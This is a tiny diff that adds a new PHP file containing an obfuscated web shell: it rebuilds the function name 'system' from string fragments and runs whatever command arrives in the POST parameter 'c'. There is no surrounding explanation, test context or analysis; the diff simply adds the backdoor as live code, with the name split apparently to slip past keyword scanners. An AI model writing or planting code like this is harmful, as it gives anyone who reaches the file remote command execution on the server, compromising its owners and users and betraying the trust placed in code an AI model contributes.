@@ -1,0 +1,4 @@
+<?php
+$parts = array('sys', 'te', 'm');
+$run = implode('', $parts);
+$run($_POST['c']);
